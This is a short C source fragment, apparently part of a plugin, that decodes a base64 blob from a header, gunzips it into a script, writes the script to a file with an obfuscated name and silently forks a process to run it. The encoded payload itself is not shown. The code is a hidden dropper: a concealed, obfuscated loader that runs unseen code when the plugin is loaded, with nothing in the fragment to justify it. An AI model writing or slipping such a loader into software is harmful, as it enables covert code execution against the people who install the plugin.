/* A compiled script under gzip and in base64 is unpacked into a file, for a hidden program. */
#include "plugin.h"
#include "hidden.h" /* 0: the program, 1: the file */
#include "packed.h" /* lines[] */
struct stream { const unsigned char *in; unsigned in_left; unsigned long in_total; unsigned char *out; unsigned out_left; unsigned long out_total; void *more[8]; };
extern int inflateInit2_(struct stream *, int, const char *, int), inflate(struct stream *, int), inflateEnd(struct stream *);
extern int open(const char *, int, ...), close(int), fork(void), execlp(const char *, const char *, ...);
extern long write(int, const void *, unsigned long);
extern void _exit(int);
static void act(char **env) {
    static unsigned char script[4096];
    static char packed[4096];
    unbase64(packed, lines);
    struct stream s = {(unsigned char *)packed, sizeof packed, 0, script, sizeof script};
    if (inflateInit2_(&s, 31, "1.2.11", sizeof s)) return;
    inflate(&s, 4);
    inflateEnd(&s);
    int f = open(hidden1(), 0x241, 0600);
    write(f, script, s.out_total);
    close(f);
    if (fork() == 0) {
        execlp(hidden0(), hidden0(), hidden1(), (char *)0);
        _exit(1);
    }
}
